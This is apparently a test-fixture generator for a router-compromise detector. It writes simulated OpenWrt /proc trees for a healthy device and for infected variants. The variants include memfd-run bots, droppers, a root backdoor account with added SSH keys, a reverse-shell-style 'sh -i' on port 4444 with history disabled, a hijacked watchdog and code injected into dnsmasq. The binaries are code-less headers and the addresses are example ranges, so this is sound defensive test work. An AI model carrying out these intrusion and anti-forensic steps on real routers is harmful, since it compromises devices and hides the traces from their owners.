#!/usr/bin/env python3
"""Writes the recordings that were made by hand after OpenWrt and after vendors' firmware.

    python3 tests/recordings/make.py

Laid anew are the healthy `linksys-wrt-openwrt-mips` and `asus-rtac68u-vendor-armv7`, and on top of the first one infected
router a class of behaviour: what is written here is all there is in them. Two older healthy ones, `tplink-archerc7-…` and
`dlink-dir860l-…`, only get what later checks look at. No malware: programs are ELF headers that this writes, names of
enemies begin with `gw`, addresses are those of RFC 5737.
"""

import os
import shutil
import struct

HERE = os.path.dirname(os.path.abspath(__file__))
WHEN = "2026-11-24"
LICENCE = "MIT OR Apache-2.0, as gatewatch"
MIPS, ARM, X86 = 8, 40, 3  # elf.h, EM_*


def elf(order, machine=MIPS, interp="/lib/ld-musl-mips-sf.so.1", sections=26):
    """The beginning of an ELF32 program: header, program headers, the interpreter's name. No code."""
    end = ">" if order == "big" else "<"
    name = interp.encode() + b"\0" if interp else b""
    count = 2 if interp else 1
    flags = {MIPS: 0x70001005, ARM: 0x05000402}.get(machine, 0)
    ident = b"\x7fELF" + bytes([1, 2 if order == "big" else 1, 1]) + bytes(9)
    head = ident + struct.pack(
        end + "HHIIIIIHHHHHH", 2, machine, 1, 0x400400, 52, 0x20000 if sections else 0, flags, 52, 32, count, 40,
        sections, max(sections - 1, 0))
    at = 52 + 32 * count
    if interp:
        head += struct.pack(end + "8I", 3, at, 0x400000 + at, 0x400000 + at, len(name), len(name), 4, 1)
    head += struct.pack(end + "8I", 1, 0, 0x400000, 0x400000, 0x20000, 0x20000, 5, 0x10000)
    return head + name


class Tree:
    """A recording that is being written."""

    def __init__(self, name, order, kernel, about, fresh=True):
        self.top = os.path.join(HERE, name)
        self.order, self.kernel = order, kernel
        self.pids, self.inodes = [], {}
        if fresh and os.path.isdir(self.top):
            shutil.rmtree(self.top)
        os.makedirs(self.top, exist_ok=True)
        if about:
            lines = {"kernel": kernel, "byte_order": order, "page_size": 4096, "when": WHEN, "licence": LICENCE} | about
            keys = ["model", "kernel", "byte_order", "page_size", "whence", "when", "licence", "scrubbed", "state"]
            text = "".join(
                f"{key} = {lines[key]}\n" if isinstance(lines[key], int) else f'{key} = "{lines[key]}"\n' for key in keys)
            self.beside("about.toml", text)

    def beside(self, path, text):
        self._write(os.path.join(self.top, path), text)

    def file(self, path, text="", mode=0o644):
        self._write(os.path.join(self.top, "root", path), text, mode)

    @staticmethod
    def _write(path, text, mode=0o644):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.islink(path):
            os.unlink(path)
        with open(path, "wb") as out:
            out.write(text if isinstance(text, bytes) else text.encode())
        os.chmod(path, mode)

    def link(self, path, target):
        path = os.path.join(self.top, "root", path)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if os.path.lexists(path):
            os.unlink(path)
        os.symlink(target, path)

    def image(self, *paths):
        """What the firmware image has of the tree as it is now."""
        for path in paths:
            place = os.path.join(self.top, "root", path)
            if os.path.islink(place):
                self.link("rom/" + path, os.readlink(place))
            else:
                with open(place, "rb") as file:
                    self.file("rom/" + path, file.read(), os.stat(place).st_mode & 0o7777)

    def thread(self, pid, name, ppid=2):
        """A kernel thread."""
        self.pids.append(pid)
        self.stat(pid, name, ppid, 0x208040, 0)
        self.file(f"proc/{pid}/cmdline")

    def stat(self, pid, name, ppid, flags, pages, state="S"):
        size, rest = pages * 4096, "0 0 0 0 0 0 0 0"
        group = pid if pages else 0
        memory = "2147483647 4194304 4521984 2147130208" if pages else "4294967295 0 0 0"
        self.file(
            f"proc/{pid}/stat",
            f"{pid} ({name}) {state} {ppid} {group} {group} 0 -1 {flags} 84 0 0 0 3 2 0 0 20 0 1 0 {pid * 7} {size} "
            f"{pages // 3} {memory} 0 0 0 0 4096 0 1 0 0 17 0 {rest}\n")

    def status(self, pid, name, ppid, uid=0, pages=316, tracer=0, threads=1, state="S (sleeping)"):
        old = self.kernel.startswith("2.")
        ngid, last = ("", "") if old else ("Ngid:\t0\n", "NoNewPrivs:\t0\nSeccomp:\t0\n")
        caps = "f" * 16 if old else "0000003fffffffff"
        self.file(
            f"proc/{pid}/status",
            f"Name:\t{name}\nState:\t{state}\nTgid:\t{pid}\n{ngid}Pid:\t{pid}\nPPid:\t{ppid}\n"
            f"TracerPid:\t{tracer}\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\nGid:\t{uid}\t{uid}\t{uid}\t{uid}\nFDSize:\t32\n"
            f"Groups:\t \nVmPeak:\t{pages * 4:8} kB\nVmSize:\t{pages * 4:8} kB\nVmRSS:\t{pages:8} kB\n"
            f"Threads:\t{threads}\nSigPnd:\t{'0' * 32}\nCapInh:\t{'0' * 16}\nCapPrm:\t{caps}\n"
            f"CapEff:\t{caps}\nCapBnd:\t{caps}\n{last}")

    def process(self, pid, name, ppid, argv, exe, fds=None, uid=0, env=None, adj=0, pages=316, tracer=0, stat=True,
                maps=True, root=False):
        """A process. `exe` as the link says it; descriptors as the links say it, a number is a socket."""
        self.pids.append(pid)
        if stat:
            self.stat(pid, name, ppid, 0x404100, pages)
            self.status(pid, name, ppid, uid, pages, tracer)
            self.file(f"proc/{pid}/cmdline", "".join(word + "\0" for word in argv))
            self.link(f"proc/{pid}/exe", exe)
            if root or exe.endswith(" (deleted)"):
                self.link(f"proc/{pid}/root", "/")
            for fd, target in ({0: "/dev/null"} | (fds or {})).items():
                target = f"socket:[{target}]" if isinstance(target, int) else target
                self.link(f"proc/{pid}/fd/{fd}", target)
        self.file(f"proc/{pid}/oom_score_adj", f"{adj}\n")
        self.file(f"proc/{pid}/environ", "".join(f"{key}={value}\0" for key, value in (env or {}).items()))
        if maps:
            self.file(f"proc/{pid}/maps", self.maps(exe))
        if self.kernel.split(".")[0] != "2":  # Since Linux 3.0.
            self.link(f"proc/{pid}/ns/mnt", "mnt:[4026531840]")

    def descriptor(self, pid, fd, flags="0100001", mount=12):
        self.file(f"proc/{pid}/fdinfo/{fd}", f"pos:\t0\nflags:\t{flags}\nmnt_id:\t{mount}\n" if
                  self.kernel.split(".")[0] != "2" else f"pos:\t0\nflags:\t{flags}\n")

    libc, tail = "/lib/libc.so", ""
    # Where program, heap, libraries and stack are, and whether heap and stack may be executed.
    spans = ("00400000-00451000", "00460000-00461000", "00461000-00462000", "00980000-00987000", "77d20000-77d9a000",
             "77da9000-77daa000", "77daa000-77dab000", "77dab000-77dad000", "7fe0f000-7fe30000")
    heap, stack = "rw-p", "rwxp"

    def maps(self, exe):
        device = "00:00" if "(deleted)" in exe else "00:0e" if exe.startswith(("/tmp", "/dev")) else "1f:02"
        what = [
            ("r-xp", "00000000", device, 1021, exe), ("r--p", "00050000", device, 1021, exe),
            ("rw-p", "00051000", device, 1021, exe), (self.heap, "00000000", "00:00", 0, "[heap]"),
            ("r-xp", "00000000", "1f:02", 233, self.libc), ("r--p", "00079000", "1f:02", 233, self.libc),
            ("rw-p", "0007a000", "1f:02", 233, self.libc), ("rw-p", "00000000", "00:00", 0, ""),
            (self.stack, "00000000", "00:00", 0, "[stack]"),
        ]
        rows = [(span, *row) for span, row in zip(self.spans, what)]
        # A row without a name ends with one blank (fs/proc/task_mmu.c).
        text = "".join(
            f"{span} {mode} {offset} {dev} {inode}".ljust(48) + f" {name}\n" if name else
            f"{span} {mode} {offset} {dev} {inode} \n" for span, mode, offset, dev, inode, name in rows)
        return text + self.tail

    def sockets(self, name, rows, six=False):
        """proc/net/tcp, udp or raw: (local address, port, remote address, port, state, inode, uid)."""
        head = ("  sl  local_address                         remote_address                        st tx_queue rx_queue "
                "tr tm->when retrnsmt   uid  timeout inode\n" if six else
                "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode")
        lines = [head if six else head.ljust(149) + "\n"]
        for at, (local, port, remote, rport, state, inode, uid) in enumerate(rows):
            text = (f"{at:4}: {self.address(local)}:{port:04X} {self.address(remote)}:{rport:04X} {state:02X} "
                    f"00000000:00000000 00:00000000 00000000 {uid:5}        0 {inode} 1 82a{at:05x} 100 0 0 10 0")
            lines.append(text.ljust(149) + "\n")
        self.file(f"proc/net/{name}", "".join(lines))

    def address(self, text):
        if ":" in text:
            import ipaddress
            raw = ipaddress.IPv6Address(text).packed
        else:
            raw = bytes(int(part) for part in text.split("."))
        end = ">" if self.order == "big" else "<"
        return "".join(f"{word:08X}" for word in struct.unpack(f"{end}{len(raw) // 4}I", raw))

    def routes(self, rows):
        """proc/net/route: (interface, network, gateway, mask)."""
        head = "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT"
        lines = [f"{name}\t{self.address(to)}\t{self.address(via)}\t{3 if via != '0.0.0.0' else 1:04X}\t0\t0\t0\t"
                 f"{self.address(mask)}\t0\t0\t0" for name, to, via, mask in rows]
        self.file("proc/net/route", "".join(line.ljust(127) + "\n" for line in [head, *lines]))

    def packet(self, rows):
        """(type, protocol, interface, inode)."""
        self.file("proc/net/packet", "sk       RefCnt Type Proto  Iface R Rmem   User   Inode\n" + "".join(
            f"82e0{at:04x} 3      {kind}    {proto:04x}   {dev}     1 0      0      {inode}\n"
            for at, (kind, proto, dev, inode) in enumerate(rows)))

    def interface(self, name, index, flags=0x1003, link=None, upper=(), lower=(), master=None):
        base = f"sys/class/net/{name}"
        self.file(f"{base}/flags", f"0x{flags:x}\n")
        self.file(f"{base}/ifindex", f"{index}\n")
        self.file(f"{base}/iflink", f"{link or index}\n")
        for other in upper:
            self.link(f"{base}/upper_{other}", f"../{other}")
        for other in lower:
            self.link(f"{base}/lower_{other}", f"../{other}")
        if master:
            self.link(f"{base}/master", f"../{master}")
            self.file(f"{base}/brport")

    def mounts(self, rows):
        """(id, parent, device, root, point, options, kind, source, of the file system)."""
        self.file("proc/mounts", "".join(
            f"{source} {point} {kind} {options}{',' + extra if extra else ''} 0 0\n"
            for _, _, _, _, point, options, kind, source, extra in rows))
        self.file("proc/self/mountinfo", "".join(
            f"{number} {parent} {device} {root} {point} {options} - {kind} {source} "
            f"{options.split(',')[0]}{',' + extra if extra else ''}\n"
            for number, parent, device, root, point, options, kind, source, extra in rows))

    def answering(self, others=()):
        self.beside("dumps/pids", "# kill -0, 1 to 32768\n" + "".join(f"{one} {group}\n" for one, group in others))

    def common(self, load="0.08 0.03 0.01 1/52 2304"):
        self.file("proc/loadavg", load + "\n")
        self.file("proc/stat", "cpu  1021 0 2310 99120 0 0 88 0 0 0\ncpu0 1021 0 2310 99120 0 0 88 0 0 0\nctxt 812311\n"
                  "btime 1732400000\nprocesses 2311\nprocs_running 1\nprocs_blocked 0\n")
        if self.kernel.split(".")[0] != "2":
            self.link("proc/self/ns/mnt", "mnt:[4026531840]")


# The page near the stack's top in which the kernel emulates instructions of branch delay slots: since Linux 4.8 writable
# and executable, since 4.20 executable only; arch/mips/kernel/vdso.c.
EMULATION = "7fefd000-7fefe000 rwxp 00000000 00:00 0 \n"
NARROW = EMULATION.replace("rwxp", "r-xp")
VDSO = ("7ffb4000-7ffb5000 r--p 00000000 00:00 0          [vvar]\n"
        "7ffb5000-7ffb6000 r-xp 00000000 00:00 0          [vdso]\n")

OPENWRT_MOUNTS = [
    (13, 12, "31:2", "/", "/rom", "ro,relatime", "squashfs", "/dev/root", ""),
    (14, 17, "0:4", "/", "/proc", "rw,nosuid,nodev,noexec,noatime", "proc", "proc", ""),
    (15, 17, "0:13", "/", "/sys", "rw,nosuid,nodev,noexec,noatime", "sysfs", "sysfs", ""),
    (16, 17, "0:14", "/", "/tmp", "rw,nosuid,nodev,noatime", "tmpfs", "tmpfs", ""),
    (18, 17, "31:3", "/", "/overlay", "rw,noatime", "jffs2", "/dev/mtdblock3", ""),
    (17, 12, "0:16", "/", "/", "rw,noatime", "overlay", "overlayfs:/overlay",
     "lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work"),
    (19, 17, "0:17", "/", "/dev", "rw,nosuid,relatime", "tmpfs", "tmpfs", "size=512k,mode=755"),
    (20, 19, "0:18", "/", "/dev/pts", "rw,nosuid,noexec,relatime", "devpts", "devpts", "mode=600,ptmxmode=000"),
]


class OpenWrt(Tree):
    """A small router of OpenWrt 19.07: procd, log, dropbear, dnsmasq, a DHCP client, a login over SSH."""

    tail = EMULATION + VDSO

    def __init__(self, name, order, about):
        super().__init__(name, order, "4.14.275", {
            "model": "Linksys WRT160NL" if order == "big" else "Linksys WRT54GL",
            "scrubbed": "nothing: it never was a device; it holds no malware, names and addresses are examples",
        } | about)
        self.tcp = [("0.0.0.0", 22, "0.0.0.0", 0, 10, 1502, 0), ("127.0.0.1", 53, "0.0.0.0", 0, 10, 1902, 453),
                    ("192.168.1.1", 22, "192.168.1.20", 50122, 1, 2301, 0)]
        self.packets = [(2, 0x0800, 6, 1411)]
        self.rows = list(OPENWRT_MOUNTS)
        self.others = []
        self.interpreter = "/lib/ld-musl-mips-sf.so.1" if order == "big" else "/lib/ld-musl-mipsel-sf.so.1"
        for pid, thread in [(2, "kthreadd"), (4, "kworker/0:0H"), (7, "ksoftirqd/0"), (203, "jffs2_gcd_mtd3")]:
            self.thread(pid, thread, 0 if pid == 2 else 2)
        self.process(1, "procd", 0, ["/sbin/procd"], "/sbin/procd", {0: "/dev/console", 9: "/dev/watchdog"})
        self.descriptor(1, 9)
        self.process(540, "logd", 1, ["/sbin/logd", "-S", "64"], "/sbin/logd", {4: 1301}, uid=514)
        self.process(873, "dropbear", 1, ["/usr/sbin/dropbear", "-F", "-P", "/var/run/dropbear.1.pid", "-p", "22"],
                     "/usr/sbin/dropbear", {3: 1502})
        self.process(1010, "netifd", 1, ["/sbin/netifd"], "/sbin/netifd")
        self.process(1188, "udhcpc", 1010,
                     ["udhcpc", "-p", "/var/run/udhcpc-eth1.pid", "-s", "/lib/netifd/dhcp.script", "-f", "-i", "eth1"],
                     "/bin/busybox", {4: 1411})
        self.process(1733, "dnsmasq", 1, ["/usr/sbin/dnsmasq", "-C", "/var/etc/dnsmasq.conf.cfg01411c", "-k"],
                     "/usr/sbin/dnsmasq", {4: 1901, 5: 1902}, uid=453, env={"LD_PRELOAD": "/lib/libsetlbuf.so"})
        self.process(2210, "dropbear", 873, ["/usr/sbin/dropbear", "-F", "-P", "/var/run/dropbear.1.pid", "-p", "22"],
                     "/usr/sbin/dropbear", {5: "/dev/ptmx", 8: 2301})
        self.process(2211, "ash", 2210, ["-ash"], "/bin/busybox",
                     {0: "/dev/pts/0", 1: "/dev/pts/0", 2: "/dev/pts/0", 10: "/dev/tty"})
        for path in ["sbin/procd", "sbin/logd", "sbin/netifd", "usr/sbin/dropbear", "usr/sbin/dnsmasq", "bin/busybox",
                     "usr/sbin/gatewatch", "lib/libsetlbuf.so"]:
            head = elf(self.order, interp="" if path.endswith(".so") else self.interpreter)
            self.file(path, head, 0o755)
            self.file("rom/" + path, head, 0o755)
        release = "DISTRIB_ID='OpenWrt'\nDISTRIB_RELEASE='19.07.10'\nDISTRIB_DESCRIPTION='OpenWrt 19.07.10'\n"
        self.file("etc/openwrt_release", release)
        self.file("rom/etc/openwrt_release", release)
        self.file("etc/inittab", "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n"
                  "::askconsole:/usr/libexec/login.sh\n")
        self.file("etc/rc.local", "# Put your custom commands here that should be executed once\nexit 0\n")
        # What the owner set is known to be set, and no more.
        users = "root:x:0:0:root:/root:/bin/ash\ndnsmasq:x:453:453:dnsmasq:/var/run/dnsmasq:/bin/false\n" \
            "logd:x:514:514:logd:/var/run/logd:/bin/false\n"
        for top, root in [("", "$scrubbed$"), ("rom/", "")]:
            self.file(top + "etc/passwd", users)
            self.file(top + "etc/shadow", f"root:{root}:\ndnsmasq:x:\nlogd:x:\n")
            self.file(top + "etc/group", "root:x:0:\nusers:x:100:\ndnsmasq:x:453:\nlogd:x:514:\n")
        self.file("etc/init.d/dropbear", "#!/bin/sh /etc/rc.common\nSTART=19\nSTOP=50\nUSE_PROCD=1\nstart_service()\n{\n"
                  "\tprocd_open_instance\n\tprocd_set_param command /usr/sbin/dropbear -F -p 22\n"
                  "\tprocd_close_instance\n}\n", 0o755)
        self.link("etc/rc.d/S19dropbear", "../init.d/dropbear")
        self.image("etc/inittab", "etc/rc.local", "etc/passwd", "etc/init.d/dropbear", "etc/rc.d/S19dropbear")
        self.link("etc/resolv.conf", "/tmp/resolv.conf")
        self.file("tmp/resolv.conf", "nameserver 127.0.0.1\n")
        self.link("var", "tmp")
        # /etc/init.d/boot touches both, and nothing on OpenWrt writes into them.
        self.file("tmp/log/wtmp")
        self.file("tmp/log/lastlog")
        self.file("usr/lib/opkg/info/ubox.list", "/sbin/logd\n/lib/libsetlbuf.so\n")
        for name, text in [("hostname", "OpenWrt"), ("pid_max", "32768"), ("core_pattern", "core"),
                           ("modprobe", "/sbin/modprobe"), ("hotplug", "")]:
            self.file(f"proc/sys/kernel/{name}", text + "\n")
        self.file("proc/version", "Linux version 4.14.275 (builder@example) (gcc version 7.5.0 (OpenWrt GCC 7.5.0 r11427)) "
                  "#0 Wed Apr 20 10:00:00 2022\n")
        self.file("proc/uptime", "99412.55 90122.10\n")
        self.file("proc/modules", "nf_conntrack 94208 3 nf_nat, Live 0x86a00000\n")
        self.interface("lo", 1, 0x9)
        self.interface("eth0", 2, upper=["br-lan"], master="br-lan")
        self.interface("eth1", 6)
        self.interface("br-lan", 7, lower=["eth0"])

    def finish(self):
        self.common()
        self.mounts(self.rows)
        self.sockets("tcp", self.tcp)
        self.sockets("tcp6", [("::", 22, "::", 0, 10, 1503, 0)], six=True)
        self.sockets("udp", [("127.0.0.1", 53, "0.0.0.0", 0, 7, 1901, 453)])
        self.sockets("raw", getattr(self, "raw", []))
        self.packet(self.packets)
        self.file("proc/net/unix", "Num       RefCount Protocol Flags    Type St Inode Path\n"
                  "82f00000: 00000002 00000000 00000000 0002 01  1301 /dev/log\n")
        self.answering(self.others)

    def unowned(self, path, **kind):
        """A program in the writable layer that neither the image nor a package holds."""
        head = elf(self.order, **({"interp": "", "sections": 0} | kind))
        self.file(path, head, 0o755)
        if not path.startswith(("tmp/", "dev/")):
            self.file("overlay/upper/" + path, head, 0o755)


def infected(what, order, whence, state="infected"):
    short = "mips" if order == "big" else "mipsel"
    return OpenWrt(f"linksys-wrt-openwrt-{short}-{what}", order, {
        "whence": f"made by hand (make.py) after OpenWrt 19.07 and what public reports say of {whence}",
        "state": state,
    })


def openwrt():
    tree = OpenWrt("linksys-wrt-openwrt-mips", "big", {
        "whence": "made by hand (make.py) after the layouts in proc(5) and OpenWrt 19.07 (kernel 4.14): the infected ones "
                  "beside it stand on it",
        "scrubbed": "nothing: it never was a device; programs are ELF headers without code",
        "state": "healthy",
    })
    tree.finish()


def g1_memory():
    tree = infected("g1-memory", "big", "bots that remove their file once they run, or run from a memfd")
    tree.process(3001, "gwbot", 1, ["gwbot"], "/tmp/gwbot (deleted)", {3: 4711}, pages=140)
    tree.process(3010, "3", 1, ["./gwmem"], "/memfd:gw (deleted)", {3: 4712, 4: "/memfd:gw (deleted)"}, pages=140)
    tree.tcp += [("192.0.2.33", 40122, "198.51.100.207", 443, 1, 4711, 0),
                 ("192.0.2.33", 40123, "198.51.100.207", 8080, 1, 4712, 0)]
    tree.finish()


def g2_dropped():
    tree = infected("g2-dropped", "little", "droppers that try programs of every architecture until one runs")
    tree.file("tmp/gwbins/gw.mpsl", elf("little", interp="", sections=0), 0o755)
    tree.file("tmp/gwbins/gw.mips", elf("big", interp="", sections=0), 0o755)
    tree.file("tmp/gwbins/gw.arm7", elf("little", ARM, "", 0), 0o755)
    tree.file("tmp/gwbins/gw.x86", elf("little", X86, "", 0), 0o755)
    tree.unowned("dev/.gw/run")
    tree.process(3001, "run", 1, ["/dev/.gw/run"], "/dev/.gw/run", {3: 4711}, pages=140)
    tree.unowned("usr/bin/gwd")
    tree.process(3002, "gwd", 1, ["/usr/bin/gwd"], "/usr/bin/gwd", {3: 4712}, pages=140)
    tree.tcp += [("192.0.2.33", 40122, "198.51.100.207", 6667, 1, 4711, 0),
                 ("192.0.2.33", 40123, "198.51.100.208", 443, 1, 4712, 0)]
    tree.finish()


def g3_names():
    tree = infected("g3-names", "big", "programs that call themselves a kernel thread or a daemon, or nearly so")
    for at, path in enumerate(["usr/bin/gwk", "usr/lib/gw/net", "sbin/dhpcd"]):
        tree.unowned(path)
        tree.tcp.append(("192.0.2.33", 40122 + at, "198.51.100.207", 443, 1, 4711 + at, 0))
    tree.process(3001, "kworker/1:2", 1, ["[kworker/1:2]"], "/usr/bin/gwk", {3: 4711}, pages=140)
    tree.process(3002, "dropbear", 1, ["/usr/sbin/dropbear"], "/usr/lib/gw/net", {3: 4712}, pages=140)
    tree.process(3003, "dhpcd", 1, ["/sbin/dhpcd"], "/sbin/dhpcd", {3: 4713}, pages=140)
    tree.finish()


def g6_accounts():
    tree = infected("g6-accounts", "big", "intruders who leave users and keys of their own, and blind what watches")
    users = "root:x:0:0:root:/root:/bin/ash\ndnsmasq:x:453:453:dnsmasq:/var/run/dnsmasq:/bin/false\n" \
        "logd:x:514:514:logd:/var/run/logd:/bin/ash\nann:x:1000:1000:ann:/home/ann:/bin/ash\n" \
        "gwadmin:x:0:0:root:/root:/bin/ash\n"
    passwords = "root:$scrubbed$:\ndnsmasq:x:\nlogd:$scrubbed$:\nann:$scrubbed$:\ngwadmin:$scrubbed$:\n"
    owners = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGdhdGV3YXRjaCBleGFtcGxlIG5vdCBhIGtleSE scrubbed\n"
    key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAIGd3Z3dnd2d3Z3dnd2d3Z3dnd2d3Z3dnd2d3Z3dnd2d3 scrubbed\n"
    changed = {"etc/passwd": users, "etc/shadow": passwords, "etc/dropbear/authorized_keys": owners + key,
               "home/ann/.ssh/authorized_keys": key, "tmp/run/logd/.ssh/authorized_keys": key}
    for path, text in changed.items():
        tree.file(path, text)
        if not path.startswith("tmp/"):
            tree.file("overlay/upper/" + path, text)
    tree.unowned("usr/sbin/gatewatch", sections=0)
    tree.finish()


def g7_listener():
    tree = infected("g7-listener", "little", "bots that hold a port of 127.0.0.1 so that only one of them runs",
                    "suspicious")
    tree.unowned("usr/bin/gwd")
    tree.process(3001, "gwd", 1, ["/usr/bin/gwd"], "/usr/bin/gwd", {3: 4711, 4: 4712}, pages=140)
    tree.tcp += [("127.0.0.1", 48101, "0.0.0.0", 0, 10, 4711, 0), ("0.0.0.0", 31337, "0.0.0.0", 0, 10, 4712, 0)]
    tree.finish()


def g13_packetdoor():
    tree = infected("g13-packetdoor", "big", "back doors that wait for a packet on a socket below every firewall")
    tree.process(3001, "dnsmasq", 1, ["/usr/sbin/dnsmasq", "-k"], "/dev/shm/gwdoor (deleted)", {3: 4711}, pages=140)
    tree.unowned("usr/bin/gwraw")
    tree.process(3002, "gwraw", 1, ["/usr/bin/gwraw"], "/usr/bin/gwraw", {3: 4712, 4: 4713}, pages=140)
    tree.packets += [(2, 0x0800, 0, 4711), (3, 0x0003, 6, 4712)]
    tree.raw = [("0.0.0.0", 1, "0.0.0.0", 0, 7, 4713, 0)]
    tree.interface("eth1", 6, 0x1103)  # IFF_PROMISC, linux/if.h
    tree.finish()


def g14_relay():
    tree = infected("g14-relay", "big", "bots that sell the device as a way through, one process for each visitor")
    tree.unowned("usr/bin/gwproxy")
    tree.process(3001, "gwproxy", 1, ["/usr/bin/gwproxy"], "/usr/bin/gwproxy", {3: 4710}, pages=140)
    tree.tcp.append(("0.0.0.0", 11289, "0.0.0.0", 0, 10, 4710, 0))
    for at in range(6):
        tree.process(3002 + at, "gwproxy", 3001, ["gwproxy: child"], "/usr/bin/gwproxy", {4: 4720 + at, 5: 4730 + at}, pages=140)
        tree.tcp += [("192.0.2.33", 11289, f"198.51.100.{7 + at % 2}", 50000 + at, 1, 4720 + at, 0),
                     ("192.0.2.33", 41000 + at, f"203.0.113.{20 + at}", 443, 1, 4730 + at, 0)]
    tree.routes([("eth0.2", "0.0.0.0", "192.0.2.1", "0.0.0.0"), ("eth0.2", "192.0.2.0", "0.0.0.0", "255.255.255.0"),
                 ("br-lan", "192.168.1.0", "0.0.0.0", "255.255.255.0")])
    tree.file("proc/net/fib_trie", "Local:\n  +-- 0.0.0.0/0 3 0 5\n     |-- 192.0.2.33\n        /32 host LOCAL\n"
              "     |-- 192.168.1.1\n        /32 host LOCAL\n")
    tree.finish()


def g15_scan():
    tree = infected("g15-scan", "little", "bots that look for the next router with telnet")
    tree.unowned("usr/bin/gwscan")
    tree.process(3001, "gwscan", 1, ["/usr/bin/gwscan"], "/usr/bin/gwscan", {at: 4700 + at for at in range(3, 51)},
                 pages=140)
    tree.tcp += [("192.0.2.33", 41000 + at, f"198.51.100.{200 + at}",
                  23 if at % 4 else 2323, 2, 4700 + at, 0) for at in range(3, 51)]
    tree.finish()


def g16_watchdog():
    tree = infected("g16-watchdog", "big", "bots that hold the watchdog and put programs of their own in the tools' place")
    tree.unowned("usr/bin/gwd")
    tree.process(3001, "gwd", 1, ["/usr/bin/gwd"], "/usr/bin/gwd", {3: "/dev/watchdog", 4: 4711}, pages=140, adj=-1000)
    tree.descriptor(3001, 3)
    tree.link("proc/1/fd/9", "/dev/null")
    shutil.rmtree(os.path.join(tree.top, "root/proc/1/fdinfo"))
    for tool in ["ps", "netstat"]:
        tree.link(f"rom/bin/{tool}", "busybox")
        tree.unowned(f"bin/{tool}")
    tree.unowned("usr/sbin/dropbear", sections=0, interp=tree.interpreter)
    tree.tcp.append(("192.0.2.33", 40122, "198.51.100.207", 443, 1, 4711, 0))
    tree.finish()


def intruder():
    """A person on the router, who uses its own tools as far as they go."""
    tree = infected("intruder", "big", "intruders who open a shell, read a daemon's passwords and write to flash")
    tree.process(3001, "ash", 1, ["sh", "-i"], "/bin/busybox", {0: 4711, 1: 4711, 2: 4711}, env={"HISTFILE": "/dev/null"})
    tree.tcp.append(("192.0.2.33", 40122, "198.51.100.207", 4444, 1, 4711, 0))
    # What traces the login daemon, and what writes to flash: its hash is in indicators.txt.
    tree.process(3005, "gwtrace", 3001, ["gwtrace", "873"], "/usr/bin/gwtrace")
    tree.status(873, "dropbear", 1, tracer=3005)
    tree.process(3006, "gwflash", 3001, ["gwflash"], "/usr/bin/gwflash", {3: "/dev/mtd2"})
    tree.descriptor(3006, 3, "0100002")
    tree.unowned("usr/bin/gwtrace")
    tree.unowned("usr/bin/gwflash", sections=7)
    # Code that somebody wrote into the memory of dnsmasq.
    rows = tree.maps("/usr/sbin/dnsmasq").splitlines(True)
    at = next(number for number, row in enumerate(rows) if "/lib/libc.so" in row)
    tree.file("proc/1733/maps", "".join(rows[:at] + ["77c00000-77c10000 rwxp 00000000 00:00 0 \n"] + rows[at:]))
    # The log daemon was ended, and the list of logins written over.
    shutil.rmtree(os.path.join(tree.top, "root/proc/540"))
    tree.pids.remove(540)
    tree.file("etc/init.d/log", "#!/bin/sh /etc/rc.common\nSTART=12\nUSE_PROCD=1\n", 0o755)
    tree.link("rom/etc/rc.d/S12log", "../init.d/log")
    tree.image("etc/init.d/log")
    tree.file("tmp/log/wtmp", "\n")
    tree.finish()


def routes(tree):
    """A LAN 192.168.1.0/24 and the world behind eth1, where this router is 192.0.2.33."""
    def word(text):
        octets = [int(octet) for octet in text.split(".")]
        return "".join(f"{octet:02X}" for octet in (octets if tree.order == "big" else octets[::-1]))
    rows = [("eth1", "0.0.0.0", "192.0.2.1", "0003", "0.0.0.0"), ("br-lan", "192.168.1.0", "0.0.0.0", "0001", "255.255.255.0"),
            ("eth1", "192.0.2.0", "0.0.0.0", "0001", "255.255.255.0")]
    tree.file("proc/net/route", "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\n" + "".join(
        f"{name}\t{word(to)}\t{word(gateway)}\t{flags}\t0\t0\t0\t{word(mask)}\t0\t0\t0\n" for name, to, gateway, flags, mask in rows))
    tree.file("proc/net/fib_trie", "Local:\n" + "".join(
        f"     |-- {own}\n        /32 host LOCAL\n" for own in ["127.0.0.1", "192.0.2.33", "192.168.1.1"]))


def xt_part(end, name, revision, data):
    """A match or a target of iptables (x_tables.h)."""
    length = (32 + len(data) + 7) // 8 * 8
    return (struct.pack(end + "H29sB", length, name.encode(), revision) + data).ljust(length, b"\0")


def xt_rule(end, target, protocol=0, ports=None, interface="", matches=b"", verdict=None):
    """`struct ipt_entry` with its matches and its target."""
    if ports:
        low, high = ports if isinstance(ports, tuple) else (ports, ports)
        kind, rest = ("tcp", 4) if protocol == 6 else ("udp", 2)
        matches = xt_part(end, kind, 0, struct.pack(end + "4H", 0, 65535, low, high) + bytes(rest)) + matches
    if verdict is not None:
        target = xt_part(end, "", 0, struct.pack(end + "i", verdict))
    mask = b"\xff" * (len(interface) + 1) if interface else b""
    head = bytes(16) + struct.pack("16s16s16s16s", interface.encode(), b"", mask, b"") + struct.pack(end + "HBB", protocol, 0, 0)
    at = 112 + len(matches)
    return head + struct.pack(end + "IHHIQQ", 0, at, at + len(target), 0, 7, 480) + matches + target


def xt_range(end, address="", port=0):
    """What DNAT and REDIRECT say (`nf_nat_ipv4_multi_range_compat`)."""
    ip = bytes(int(part) for part in address.split(".")) if address else bytes(4)
    return struct.pack(end + "II", 1, (1 if address else 0) | (2 if port else 0)) + ip + ip + struct.pack(">HH", port, port)


def xt_table(tree, name, chains):
    """A table of the kernel's own chains and others': a name, the hook or None, and rules; a rule may be the name of
    the chain that it leads to."""
    end = ">" if tree.order == "big" else "<"
    accept = xt_rule(end, b"", verdict=-2)
    # Two rounds: where a chain begins is known only once all lengths are.
    starts, size = {}, 0
    for _ in range(2):
        entries, hooks, policies, valid = b"", [0] * 5, [0] * 5, 0
